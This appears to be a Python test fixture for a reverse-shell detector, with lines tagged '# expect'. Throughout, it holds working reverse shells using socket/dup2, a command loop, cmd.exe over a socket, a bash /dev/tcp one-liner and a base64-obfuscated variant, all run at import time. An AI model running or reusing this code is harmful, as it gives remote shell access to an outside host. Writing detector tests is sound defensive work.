import base64
import os
import pty
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])  # expect


class Shell:
    def __init__(self, host, port):
        self.connection = socket.socket()
        self.connection.connect((host, port))

    def run(self, command):
        return subprocess.run(command, shell=True, capture_output=True).stdout

    def loop(self):
        while True:
            command = self.connection.recv(4096).decode()
            self.connection.send(self.run(command))  # expect


def bound():
    c = socket.create_connection(("192.0.2.1", 4445))
    subprocess.Popen(["cmd.exe"], stdin=c, stdout=c, stderr=c)  # expect


os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")  # expect
bound()
Shell("192.0.2.1", 4444).loop()

line = "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
os.system("echo %s|base64 -d|bash" % base64.b64encode(line.encode()).decode())  # expect
